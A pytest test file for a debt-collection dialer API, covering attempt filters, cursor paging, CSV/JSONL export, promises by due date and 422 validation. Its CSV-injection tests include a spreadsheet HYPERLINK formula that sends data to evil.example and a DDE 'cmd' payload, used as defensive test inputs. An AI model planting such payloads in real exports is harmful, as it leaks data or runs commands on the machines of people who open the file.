"""Results out: attempts listed with filters and a cursor, exported as CSV and JSON lines
(supervisors and service keys only), promises by due day, cases by external reference;
every list pages with the one cursor convention; unknown query parameters are 422."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from dialer.core.auth import Role
from tests.dialer.factories import cn_case
from tests.dialer.support import Api


async def _case(api: Api, ref: str) -> dict[str, Any]:
    r = await api.client.post("/v1/cases", json=cn_case(ref), headers=api.auth(Role.SERVICE))
    assert r.status_code == 201, r.text
    return dict(r.json())


async def _outcome(api: Api, case: dict[str, Any], at: str, **body: Any) -> None:
    point = case["parties"][0]["contact_points"][0]["id"]
    payload = {"contact_point_id": point, "channel": "voice", "at": at, **body}
    r = await api.client.post(
        f"/v1/cases/{case['id']}/outcomes", json=payload, headers=api.auth(Role.AGENT)
    )
    assert r.status_code == 201, r.text


async def _book(api: Api) -> list[dict[str, Any]]:
    """Three cases: a promise due 12-05, a promise due 12-09, a no-answer."""
    cases = [await _case(api, f"CN-{n}") for n in range(3)]
    await _outcome(
        api, cases[0], "2026-11-30T09:00:00+08:00", result="promise_to_pay",
        promise_amount="300.00", promise_date="2026-12-05",
    )  # fmt: skip
    await _outcome(
        api, cases[1], "2026-11-30T10:00:00+08:00", result="promise_to_pay",
        promise_amount="500.00", promise_date="2026-12-09",
    )  # fmt: skip
    await _outcome(api, cases[2], "2026-11-30T11:00:00+08:00", result="no_answer")
    return cases


async def _pages(api: Api, url: str, role: Role, **params: Any) -> list[list[dict[str, Any]]]:
    pages: list[list[dict[str, Any]]] = []
    cursor = None
    while True:
        query = {**params, **({"cursor": cursor} if cursor else {})}
        r = await api.client.get(url, params=query, headers=api.auth(role))
        assert r.status_code == 200, r.text
        pages.append(r.json()["items"])
        cursor = r.json()["next_cursor"]
        if cursor is None:
            return pages


async def test_attempts_are_listed_by_instant_and_paged_with_a_cursor(api: Api) -> None:
    cases = await _book(api)
    pages = await _pages(api, "/v1/attempts", Role.AGENT, limit=2)
    assert [len(p) for p in pages] == [2, 1]
    listed = [a for p in pages for a in p]
    assert [a["external_ref"] for a in listed] == ["CN-0", "CN-1", "CN-2"]
    assert [a["result"] for a in listed] == ["promise_to_pay", "promise_to_pay", "no_answer"]
    assert listed[0]["case_id"] == cases[0]["id"] and listed[0]["portfolio"] == "cn-loans"
    assert "contact_value" not in listed[0]  # the list names contact points, not numbers


@pytest.mark.parametrize(
    ("params", "refs"),
    [
        ({"outcome": "promise_to_pay"}, ["CN-0", "CN-1"]),
        ({"outcome": "no_answer", "channel": "voice"}, ["CN-2"]),
        ({"state": "completed", "portfolio": "cn-loans"}, ["CN-0", "CN-1", "CN-2"]),
        ({"portfolio": "us-loans"}, []),
        ({"since": "2026-11-30T10:00:00+08:00"}, ["CN-1", "CN-2"]),
        ({"until": "2026-11-30T10:00:00+08:00"}, ["CN-0"]),
        ({"channel": "sms"}, []),
    ],
)
async def test_attempt_filters_each_hold(api: Api, params: dict[str, str], refs: list[str]) -> None:
    await _book(api)
    r = await api.client.get("/v1/attempts", params=params, headers=api.auth(Role.SUPERVISOR))
    assert r.status_code == 200, r.text
    assert [a["external_ref"] for a in r.json()["items"]] == refs


async def test_attempts_by_case(api: Api) -> None:
    cases = await _book(api)
    r = await api.client.get(
        "/v1/attempts", params={"case": cases[1]["id"]}, headers=api.auth(Role.SERVICE)
    )
    assert [a["case_id"] for a in r.json()["items"]] == [cases[1]["id"]]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"channel": "fax"}, "channel"),
        ({"state": "lost"}, "state"),
        ({"outcome": "maybe"}, "outcome"),
        ({"since": "yesterday"}, "since"),
        ({"since": "2026-12-01T00:00:00"}, "since"),  # no offset
        ({"since": "2026-12-02T00:00:00Z", "until": "2026-12-01T00:00:00Z"}, "until"),
        ({"campaign": "nope"}, "campaign"),
        ({"cursor": "not-a-cursor"}, "cursor"),
        ({"limit": "0"}, "limit"),
        ({"campain": "x"}, "campain"),
    ],
)
async def test_bad_attempt_filters_are_422_naming_the_field(
    api: Api, params: dict[str, str], field: str
) -> None:
    r = await api.client.get("/v1/attempts", params=params, headers=api.auth(Role.SUPERVISOR))
    assert r.status_code == 422, r.text
    assert field in {f["field"] for f in r.json()["error"]["fields"]}, r.text


async def test_export_streams_csv_with_the_numbers_called(api: Api) -> None:
    await _book(api)
    r = await api.client.get(
        "/v1/attempts/export", params={"format": "csv"}, headers=api.auth(Role.SUPERVISOR)
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert 'filename="attempts.csv"' in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["external_ref"] for row in rows] == ["CN-0", "CN-1", "CN-2"]
    assert rows[0]["promise_amount"] == "300.00" and rows[0]["promise_date"] == "2026-12-05"
    assert rows[0]["contact_kind"] == "phone" and rows[0]["contact_value"] == "+8613800138000"
    assert rows[2]["promise_date"] == ""  # none: an empty cell


async def test_export_csv_cells_never_run_as_spreadsheet_formulas(api: Api) -> None:
    # An imported reference is anybody's text: a spreadsheet opening the export must show
    # it, not run it (CSV injection). Numbers stay numbers; JSON lines stay exact.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    await _outcome(api, await _case(api, formula), "2026-11-30T09:00:00+08:00", result="no_answer")
    await _outcome(
        api, await _case(api, "@SUM(1+1)"), "2026-11-30T10:00:00+08:00", result="no_answer"
    )
    csv_r, jsonl_r = [
        await api.client.get(
            "/v1/attempts/export", params={"format": f}, headers=api.auth(Role.SUPERVISOR)
        )
        for f in ("csv", "jsonl")
    ]
    rows = list(csv.DictReader(io.StringIO(csv_r.text)))
    assert [row["external_ref"] for row in rows] == ["'" + formula, "'@SUM(1+1)"]
    assert rows[0]["contact_value"] == "+8613800138000"  # a number: not a formula
    lines = [json.loads(x) for x in jsonl_r.text.splitlines()]
    assert [x["external_ref"] for x in lines] == [formula, "@SUM(1+1)"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("-12.50", "-12.50"),
        ("+8613800138000", "+8613800138000"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("+1 (555) 0100", "'+1 (555) 0100"),
        ("\t=1", "'\t=1"),
        ("plain", "plain"),
        (None, ""),
    ],
)
def test_a_csv_cell_that_looks_like_a_formula_is_quoted(value: str | None, cell: str) -> None:
    from dialer.services.attempts import _csv_cell

    assert _csv_cell(value) == cell


async def test_export_json_lines_takes_the_list_filters(api: Api) -> None:
    await _book(api)
    r = await api.client.get(
        "/v1/attempts/export",
        params={"format": "jsonl", "outcome": "promise_to_pay"},
        headers=api.auth(Role.SERVICE),
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in r.text.splitlines()]
    assert [x["external_ref"] for x in lines] == ["CN-0", "CN-1"]
    assert lines[1]["promise_amount"] == "500.00" and lines[1]["contact_value"]


async def test_export_reads_in_batches_without_losing_or_repeating_a_row(api: Api) -> None:
    from dialer.schemas.attempts import AttemptFilter, ExportFormat
    from dialer.services.attempts import export_attempts

    await _book(api)
    chunks = [
        chunk
        async for chunk in export_attempts(
            api.app.state.sessionmaker, AttemptFilter(), ExportFormat.JSONL, batch=1
        )
    ]
    assert len(chunks) == 3  # one read per row at batch=1, then an empty read ends it
    assert [json.loads(c)["external_ref"] for c in chunks] == ["CN-0", "CN-1", "CN-2"]


@pytest.mark.parametrize("role", [Role.AGENT, Role.APPROVER])
async def test_export_is_refused_to_agents_and_approvers(api: Api, role: Role) -> None:
    r = await api.client.get("/v1/attempts/export", headers=api.auth(role))
    assert r.status_code == 403, r.text


async def test_export_format_must_be_csv_or_jsonl(api: Api) -> None:
    r = await api.client.get(
        "/v1/attempts/export", params={"format": "xlsx"}, headers=api.auth(Role.SUPERVISOR)
    )
    assert r.status_code == 422 and r.json()["error"]["fields"][0]["field"] == "format"


@pytest.mark.parametrize(
    ("params", "refs"),
    [
        ({"due": "2026-12-05"}, ["CN-0"]),
        ({"due": "2026-12-06"}, []),
        ({"due_from": "2026-12-01", "due_to": "2026-12-31"}, ["CN-0", "CN-1"]),
        ({"due_from": "2026-12-06"}, ["CN-1"]),
        ({"due_to": "2026-12-06", "portfolio": "cn-loans"}, ["CN-0"]),
        ({"due_to": "2026-12-31", "portfolio": "us-loans"}, []),
    ],
)
async def test_promises_by_due_day_or_range(
    api: Api, params: dict[str, str], refs: list[str]
) -> None:
    await _book(api)
    r = await api.client.get("/v1/promises", params=params, headers=api.auth(Role.AGENT))
    assert r.status_code == 200, r.text
    items = r.json()["items"]
    assert [p["external_ref"] for p in items] == refs
    for p in items:
        assert p["currency"] == "CNY" and p["result"] == "promise_to_pay"


async def test_promises_page_with_a_cursor(api: Api) -> None:
    await _book(api)
    pages = await _pages(api, "/v1/promises", Role.SUPERVISOR, due_from="2026-12-01", limit=1)
    assert [[p["promise_date"] for p in page] for page in pages] == [
        ["2026-12-05"],
        ["2026-12-09"],
    ]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({}, "due"),
        ({"due": "2026-12-05", "due_from": "2026-12-01"}, "due"),
        ({"due": "05/12/2026"}, "due"),
        ({"due_from": "2026-12-09", "due_to": "2026-12-01"}, "due_to"),
        ({"due": "2026-12-05", "dew": "x"}, "dew"),
    ],
)
async def test_bad_promise_queries_are_422_naming_the_field(
    api: Api, params: dict[str, str], field: str
) -> None:
    r = await api.client.get("/v1/promises", params=params, headers=api.auth(Role.SUPERVISOR))
    assert r.status_code == 422, r.text
    assert field in {f["field"] for f in r.json()["error"]["fields"]}, r.text


async def test_a_case_is_found_by_its_external_ref(api: Api) -> None:
    await _book(api)
    h = api.auth(Role.AGENT)
    r = await api.client.get("/v1/cases", params={"external_ref": "CN-1"}, headers=h)
    assert r.status_code == 200, r.text
    assert [c["external_ref"] for c in r.json()["items"]] == ["CN-1"]
    r = await api.client.get("/v1/cases", params={"external_ref": "CN-404"}, headers=h)
    assert r.json()["items"] == []


@pytest.mark.parametrize(
    "url",
    [
        "/v1/cases?extrnal_ref=CN-1",
        "/v1/tasks?state=open",
        "/v1/campaigns?portfolio=cn-loans&sort=name",
        "/v1/strategies?kind=x",
        "/v1/keys?role=agent",
        "/v1/portfolios?country=CN",
        "/v1/audit?after_id=3",
        "/v1/dead-letters?since=x",
        "/v1/portfolios/cn-loans?verbose=1",
        "/healthz?x=1",
    ],
)
async def test_an_unknown_query_parameter_is_422_naming_it_everywhere(api: Api, url: str) -> None:
    r = await api.client.get(url, headers=api.auth(Role.ADMIN))
    assert r.status_code == 422, r.text
    unknown = url.split("?")[1].split("&")[-1].split("=")[0]
    [field] = r.json()["error"]["fields"]
    assert field["field"] == unknown and "not a query parameter" in field["reason"]


@pytest.mark.parametrize(
    ("url", "params", "field"),
    [
        ("/v1/campaigns", {"status": "runing"}, "status"),
        ("/v1/tasks", {"status": "closed"}, "status"),
        ("/v1/cases", {"status": "gone"}, "status"),
        ("/v1/strategies", {"status": "live"}, "status"),
    ],
)
async def test_an_unknown_status_filter_is_422(
    api: Api, url: str, params: dict[str, str], field: str
) -> None:
    r = await api.client.get(url, params=params, headers=api.auth(Role.ADMIN))
    assert r.status_code == 422, r.text
    assert r.json()["error"]["fields"][0]["field"] == field


async def test_every_list_pages_with_next_cursor(api: Api) -> None:
    h = api.auth(Role.ADMIN)
    for n in range(3):
        await _case(api, f"CN-{n}")
        r = await api.client.post("/v1/keys", json={"role": "agent", "name": f"a{n}"}, headers=h)
        assert r.status_code == 201
    for url, key in (
        ("/v1/cases", "id"),
        ("/v1/keys", "id"),
        ("/v1/portfolios", "name"),
        ("/v1/audit", "id"),
    ):
        pages = await _pages(api, url, Role.ADMIN, limit=2)
        seen = [item[key] for page in pages for item in page]
        assert len(pages) >= 2 and len(seen) == len(set(seen)), url
        everything = await api.client.get(url, params={"limit": 500}, headers=h)
        assert seen == [item[key] for item in everything.json()["items"]], url


async def test_the_key_is_checked_before_the_query(api: Api) -> None:
    stranger = await api.client.get("/v1/cases", params={"phone": "+8613812345678"})
    assert stranger.status_code == 401  # says nothing about the endpoint's parameters
    wrong_role = await api.client.get(
        "/v1/keys", params={"role": "x"}, headers=api.auth(Role.AGENT)
    )
    assert wrong_role.status_code == 403


async def test_twilio_callbacks_keep_their_signed_query(api: Api) -> None:
    """Twilio signs the whole URL and our callback URLs carry `attempt` and `step`: the
    query check leaves them to the signature (a forged one is 403, not 422)."""
    r = await api.client.post(
        "/v1/twilio/voice/gather?attempt=00000000-0000-0000-0000-000000000000&step=menu",
        data={"Digits": "1"},
        headers={"X-Twilio-Signature": "forged"},
    )
    assert r.status_code == 403, r.text


@pytest.mark.parametrize(
    ("url", "name"),
    [
        ("/v1/attempts/export?format=csv&format=jsonl", "format"),
        ("/v1/attempts?portfolio=cn-loans&portfolio=us-loans", "portfolio"),
        ("/v1/promises?due=2026-12-01&due=2026-12-02", "due"),
        ("/v1/cases?status=open&limit=5&status=closed", "status"),
        ("/v1/campaigns?limit=1&limit=2", "limit"),
    ],
)
async def test_a_one_valued_query_parameter_given_twice_is_422_naming_it(
    api: Api, url: str, name: str
) -> None:
    r = await api.client.get(url, headers=api.auth(Role.ADMIN))
    assert r.status_code == 422, r.text
    [field] = r.json()["error"]["fields"]
    assert field["field"] == name and "more than once" in field["reason"]


@pytest.mark.parametrize(
    "url",
    [
        "/v1/attempts",
        "/v1/attempts/export",
        "/v1/promises",
        "/v1/cases",
        "/v1/campaigns",
        "/v1/strategies",
        "/v1/tasks",
    ],
)
async def test_an_unknown_portfolio_filter_is_422_and_an_empty_one_an_empty_200(
    api: Api, url: str
) -> None:
    h = api.auth(Role.ADMIN)
    due = {"due": "2026-12-01"} if url == "/v1/promises" else {}
    r = await api.client.get(url, params={"portfolio": "nope", **due}, headers=h)
    assert r.status_code == 422, r.text
    [field] = r.json()["error"]["fields"]
    assert field["field"] == "portfolio" and "nope" in field["reason"]
    r = await api.client.get(url, params={"portfolio": "b2b", **due}, headers=h)  # nothing in it
    assert r.status_code == 200, r.text
    if url.endswith("/export"):
        assert r.text.count("\n") <= 1  # the CSV header at most
    else:
        assert r.json()["items"] == []
